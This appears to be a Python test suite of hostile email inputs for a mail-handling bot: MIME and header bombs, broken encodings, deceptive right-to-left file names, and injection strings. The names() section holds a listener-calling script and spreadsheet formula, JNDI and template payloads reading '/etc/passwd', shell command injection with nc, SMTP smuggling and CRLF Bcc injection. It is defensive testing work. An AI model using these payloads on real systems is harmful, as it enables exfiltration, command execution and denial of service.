"""T13-T19, T36, T42 and the measured failures of libraries: MIME and headers that burst, break or mislead."""

import base64

from mailbot.cli.demo import forms
from tests.hostile.cases import FORM, LISTENER, TEXT, Case, control, host_of, letter, mixed, part, plain
from tests.hostile.making import DOCX

QUEUED = ("unreadable", "enquiry", "cpi")
HELLO = part("text/plain", b"Hello\r\n", coded=False)
FORM_PART = part("application/octet-stream", DOCX, "our form.docx")


def nest(depth: int, inner: bytes = b"Content-Type: text/plain\r\n\r\nHello\r\n") -> bytes:
    """So many multiparts, each in the one before; closed, as honest programs do."""
    opened = b"".join(
        b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (at, at) for at in range(depth)
    )
    return opened + inner + b"".join(b"\r\n--%d--\r\n" % at for at in reversed(range(depth)))


def forwarded(depth: int) -> bytes:
    """So many messages, each in the one before."""
    return (
        b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" * depth
        + b"Content-Type: text/plain\r\n\r\nHello\r\n"
    )


def forwarded_form(name: str) -> bytes:
    """A form that somebody forwards as an attachment."""
    inner = b"From: A <a@inner.example>\r\nSubject: x\r\nMIME-Version: 1.0\r\n" + mixed(
        HELLO, FORM_PART, boundary="=i"
    )
    return letter(name, mixed(HELLO, part("message/rfc822", inner, coded=False)))


def _with(name: str, more: bytes, rest: bytes | None = None, **what: object) -> Case:
    """A case that is strange in its header lines."""
    kept = plain() if rest is None else rest
    expected: dict[str, object] = {"kinds": ("cpi",), "records": 1} | what
    return Case(name, lambda: letter(name, kept, more=more), **expected)  # type: ignore[arg-type]


def _body(name: str, rest: bytes, **what: object) -> Case:
    """A case that is strange below its header."""
    expected: dict[str, object] = {"kinds": QUEUED} | what
    return Case(name, lambda: letter(name, rest), **expected)  # type: ignore[arg-type]


def bombs() -> list[Case]:
    """T13: more parts than anybody sends, and deeper."""
    many = b"".join(b"--=b\r\n\r\nx\r\n" for _ in range(100_000))
    return [
        _body("T13 10,000 parts", mixed(*([HELLO] * 10_000))),
        _body(
            "T13 100,000 parts",
            b'Content-Type: multipart/mixed; boundary="=b"\r\n\r\n' + many + b"--=b--\r\n",
        ),
        _body("T13 depth 500", nest(500)),
        _body("T13 depth 5,000", nest(5_000)),
        _body("T13 rfc822 1,500 deep", forwarded(1_500)),
        _body(
            "T13 a flood of boundaries",
            b'Content-Type: multipart/mixed; boundary="-"\r\n\r\n' + b"---\r\n" * 300_000,
        ),
        _body("T13 depth 19 with a form", nest(19, FORM_PART), kinds=("cpi",), records=1),
        Case(
            "T13 control: forwarded",
            lambda: forwarded_form("T13 control: forwarded"),
            kinds=("cpi",),
            records=1,
        ),
    ]


def floods() -> list[Case]:
    """T14 and the measured failures: each takes the standard library seconds, gigabytes or an exception."""
    words = b"Subject: " + b" =?utf-8?q?zorilla?=" * 30_000 + b"\r\n"
    pieces = b"".join(b" name*%d=x;\r\n" % number for number in range(20_000))
    many = b"".join(b"a%d@crowd.example, " % number for number in range(20_000))
    out = {"kinds": QUEUED, "records": None}
    return [
        _with(
            "T14 a subject of 5 MB",
            b"X-Subject: " + b"q" * 5_000_000 + b"\r\n",
            kinds=("unreadable", "cpi"),
            records=None,
        ),
        _with("T14 500,000 folds", b"X-Folded: a" + b"\r\n b" * 500_000 + b"\r\n", **out),
        _with("T14 100,000 fields", b"X-Many: a\r\n" * 100_000, **out),
        _with("T14 20,000 addresses", b"Cc: " + many + b"z@crowd.example\r\n", **out),
        _with(
            "T14 200,000 semicolons",
            b"",
            b"Content-Type: text/plain" + b";" * 200_000 + b"\r\n\r\nHello",
            **out,
        ),
        _with(
            "T14 10,000 semicolons",
            b"",
            b"Content-Type: text/plain" + b";" * 10_000 + b"\r\n\r\nHello",
            **out,
        ),
        _with("T14 5,000 nested comments", b"X-Note: " + b"(" * 5_000 + b")" * 5_000 + b"\r\n"),
        _with(
            "T14 comments in Content-Type",
            b"",
            b"Content-Type: text/plain " + b"(" * 5_000 + b")" * 5_000 + b"\r\n\r\nHello",
            **out,
        ),
        _with("T14 30,000 encoded words", words, **out),
        _with("T14 700 encoded words", b"X-Words: " + b" =?utf-8?q?zorilla?=" * 700 + b"\r\n"),
        _with(
            "T14 20,000 RFC 2231 pieces",
            b"",
            b"Content-Type: text/plain;\r\n" + pieces + b" x=y\r\n\r\nHello",
            **out,
        ),
        _with("T14 20,000 references", b"References: " + b" <a@b.example>" * 20_000 + b"\r\n", **out),
        _with("T14 a quote that never ends", b'To: "\r\n'),
        control(
            "T14 control: an ordinary header",
            lambda: letter(
                "T14 control: an ordinary header",
                plain(),
                more=b"Cc: " + b"a@school.example, " * 90 + b"z@school.example\r\n",
            ),
        ),
    ]


def broken() -> list[Case]:
    """T15, T17, T18: what no program should write, and many do."""
    cut = mixed(HELLO, FORM_PART)
    return [
        _body("T15 no closing boundary", cut.replace(b"--=b--\r\n", b""), kinds=("cpi",), records=1),
        _body(
            "T15 a boundary that is nowhere",
            b'Content-Type: multipart/mixed; boundary="=x"\r\n\r\n' + TEXT.encode(),
            kinds=("unreadable", "cpi", "enquiry"),
        ),
        _body("T15 multipart without a boundary", b"Content-Type: multipart/mixed\r\n\r\n" + TEXT.encode()),
        _body(
            "T15 base64 with noise",
            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(TEXT.encode()).replace(b"\n", b"\r\n!*\r\n"),
            kinds=("cpi",),
            records=1,
        ),
        _body(
            "T15 base64 that ends early",
            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(TEXT.encode())[:-7],
            kinds=("cpi",),
            records=1,
        ),
        _body(
            "T15 an unknown transfer encoding",
            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-zorilla\r\n\r\n" + TEXT.encode(),
        ),
        _body("T15 no empty line", b"Content-Type: text/plain\r\n", kinds=QUEUED),
        _body(
            "T15 a message/rfc822 in base64",
            mixed(HELLO, part("message/rfc822", b"From: a@b.example\r\n" + mixed(FORM_PART, boundary="=i"))),
            kinds=("cpi",),
            records=1,
        ),
        _body("T15 an empty multipart", b'Content-Type: multipart/mixed; boundary="=b"\r\n\r\n--=b--\r\n'),
        _body("T15 the same boundary inside", mixed(mixed(FORM_PART)), kinds=QUEUED),
        _body("T17 a line of 5 MB", plain("q" * 5_000_000)),
        _body(
            "T17 quoted-printable flood",
            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
            + b"=\r\n=3D" * 400_000,
        ),
        _body("T17 HTML without end", plain("<div>" * 200_000, "text/html; charset=utf-8")),
        _body("T17 one word of HTML, 5 MB", plain("<" * 5_000_000, "text/html; charset=utf-8")),
        _body("T18 bare LF", plain().replace(b"\r\n", b"\n"), kinds=("cpi",), records=1),
        _body("T18 bare CR", plain(TEXT.replace("\n", "\r")), kinds=QUEUED),
        _body(
            "T18 smuggled dots",
            plain(TEXT + "\r\n.\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\n..\r\n"),
            kinds=("cpi",),
            records=1,
        ),
        control(
            "T15 control: HTML alone",
            lambda: letter("T15 control: HTML alone", plain(forms.as_html(FORM), "text/html; charset=utf-8")),
        ),
    ]


def charsets() -> list[Case]:
    """T16, T19, T34: characters, nonsense and dates."""
    names = ["idna", "rot13", "zlib_codec", "\\0", "unicode_escape", "undefined", "x" * 3_000, "utf-16"]
    form = {"kinds": ("cpi",), "records": 1}
    return [
        *(_body(f"T16 charset {name[:20]}", plain(kind=f'text/plain; charset="{name}"')) for name in names),
        _body("T16 charset NUL", plain().replace(b"utf-8", b"ut\x00f-8")),
        _body("T16 NUL in the text", plain(TEXT.replace("zorilla", "zor\x00illa")), **form),
        _body("T16 surrogates", plain(TEXT + "\udcff\udcfe"), **form),
        _body("T16 raw 8-bit", plain(TEXT).replace(b"zorilla", b"zor\xefll\xe0"), **form),
        _with("T16 raw 8-bit in a header", b"X-Name: \xc9l\xe8ve \xff\x00\xfe\r\n"),
        _with(
            "T16 encoded words of nonsense",
            b"X-Name: =?rot13?q?a?= =?idna?b?////?= =?utf-8?b?=====?= =??q??=\r\n",
        ),
        _with("T19 a day that is none", b"X-Date: 1\r\nDate: Fri, 31 Feb 99999 99:99:99 +9999\r\n"),
        _body(
            "T34 text that runs backwards",
            plain(TEXT.replace("zorilla", "\u202ealliroz\u202c\u2066\u200b")),
            **form,
        ),
        _body("T34 zalgo", plain(TEXT.replace("zorilla", "z" + "\u0301" * 5_000)), **form),
        _body(
            "T34 a file name that runs backwards",
            mixed(HELLO, part("application/octet-stream", DOCX, "form\u202excod.exe")),
            **form,
        ),
        _body("T35 a number of 5,000 digits", plain(TEXT.replace("03/09/2011", "9" * 5_000)), **form),
        _body("T35 digits of another script", plain(TEXT.replace("03/09/2011", "٠٣/٠٩/٢٠١١")), **form),
        _body("T35 SQL", plain(TEXT.replace("zorilla", "'); DROP TABLE message; --")), **form),
        _body(
            "T36 what makes expressions slow",
            plain(TEXT.replace("zorilla", "a@" * 20_000 + " " * 50_000 + "-" * 50_000 + ":" * 20_000)),
            kinds=QUEUED,
        ),
        control(
            "T16 control: windows-1252",
            lambda: letter(
                "T16 control: windows-1252",
                plain(TEXT.replace("zorilla", "zoë"), "text/plain; charset=windows-1252").replace(
                    "zoë".encode(), b"zo\xeb"
                ),
            ),
        ),
    ]


def names() -> list[Case]:
    """T30-T33, T37, T38, T42: text that would be a command somewhere else."""
    texts = {
        "T30 a script": f"<script>fetch('{LISTENER}')</script><img src={LISTENER}>",
        "T31 a formula": f'=HYPERLINK("{LISTENER}") +1 -1 @SUM(A1) ＝1',
        "T32 a template": "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://127.0.0.1} {0.__class__} %s%n",
        "T33 a log line": "2026-01-01T00:00:00.000Z INFO ack_sent mail=1\u001b[2J\u001b]0;zorilla\u0007",
        "T38 a command": "$(touch /tmp/mailbot-was-here) `id` ; true | nc 127.0.0.1 9 & -oProxyCommand=x",
    }  # fmt: skip
    found = [
        _body(name, plain(TEXT.replace("zorilla", text)), kinds=("cpi",), records=1)
        for name, text in texts.items()
    ]
    for name, text in texts.items():
        title = f"{name} in a subject and a file name"
        file = "".join(char for char in text if char not in '"\\/\r\n') + ".docx"
        more = f"X-Subject: {text}\r\n".encode()
        rest = mixed(HELLO, part("application/octet-stream", DOCX, file))
        found.append(_with(title, more, rest))
    crlf = "=?utf-8?q?a=0D=0ABcc:_c=40crowd.example?="
    found += [
        _with(
            "T37 a file name with line ends", b"", mixed(HELLO, part("application/octet-stream", DOCX, crlf))
        ),
        Case(
            "T42 line ends in From",
            lambda: letter(
                "T42 line ends in From",
                plain(),
                sender=f"{crlf} <zebedee.quince@{host_of('T42 line ends in From')}>",
            ),
            why="no_sender",  # a colon outside quotes makes it a group, for one of the two parsers
            kinds=("cpi",),
        ),
        _with("T42 line ends in Message-ID", b"Message-ID: <=?utf-8?q?a=0D=0ABcc:c@crowd.example?=>\r\n"),
        _with("T42 an empty Message-ID", b"Message-ID: <>\r\n"),
        _with("T42 the Message-ID of Exchange", b"Message-ID: <[0123456789abcdef]@[SVR].OUTLOOK>\r\n"),
        _with("T42 a bracket for a Message-ID", b"Message-ID: <[>\r\n"),
        control(
            "T30 control: the signs of arithmetic",
            lambda: letter(
                "T30 control: the signs of arithmetic",
                plain(TEXT.replace("zorilla", "cat & dog < horse > mouse {x} 100% $5 'n' \"m\"")),
            ),
        ),
    ]
    return found


def cases() -> list[Case]:
    """All of these."""
    return [*bombs(), *floods(), *broken(), *charsets(), *names()]
